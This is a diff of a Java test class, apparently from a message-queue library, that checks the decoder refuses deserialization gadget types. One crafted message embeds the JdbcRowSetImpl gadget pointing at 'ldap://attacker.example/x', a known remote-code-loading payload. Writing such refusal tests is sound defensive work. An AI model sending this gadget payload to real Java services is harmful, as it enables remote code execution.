@@ -57,7 +57,7 @@ class GadgetRefusalTest {
             }
         };
         try (MappedQueue queue = MappedQueue.builder(dir).build()) {
-            Payments writer = queue.acquireAppender().methodWriter(Payments.class);
+            Payments writer = Messages.methodWriter(queue.acquireAppender(), Payments.class);
             writer.pay(new Card("4111"));
             appendCrafted(queue, "pay", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl",
                     "dataSourceName", "ldap://attacker.example/x", "autoCommit", true));
@@ -67,7 +67,7 @@ class GadgetRefusalTest {
             appendCrafted(queue, "note", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"));
             writer.pay(new Cash(250));
 
-            MethodReader reader = queue.createTailer().methodReader(handler);
+            MethodReader reader = Messages.methodReader(queue.createTailer(), handler);
             assertThat(reader.readOne()).isTrue();
             assertThatThrownBy(reader::readOne)
                     .isInstanceOf(MessageDecodingException.class)
@@ -101,13 +101,13 @@ class GadgetRefusalTest {
         try (MappedQueue queue = MappedQueue.builder(dir).build()) {
             Unlisted value = new Unlisted();
             value.value = "v";
-            queue.acquireAppender().methodWriter(OpenPayments.class).pay(value);
+            Messages.methodWriter(queue.acquireAppender(), OpenPayments.class).pay(value);
 
             OpenPayments handler = seen::add;
-            assertThatThrownBy(() -> queue.createTailer().methodReader(handler).readOne())
+            assertThatThrownBy(() -> Messages.methodReader(queue.createTailer(), handler).readOne())
                     .isInstanceOf(MessageDecodingException.class)
                     .hasMessageContaining("type " + Unlisted.class.getName() + " is not allowed here");
-            assertThat(queue.createTailer().methodReaderBuilder().handlers(handler).allowTypes(Unlisted.class).build()
+            assertThat(Messages.methodReaderBuilder(queue.createTailer()).handlers(handler).allowTypes(Unlisted.class).build()
                     .readOne()).isTrue();
         }
         assertThat(seen).singleElement().isInstanceOf(Unlisted.class);
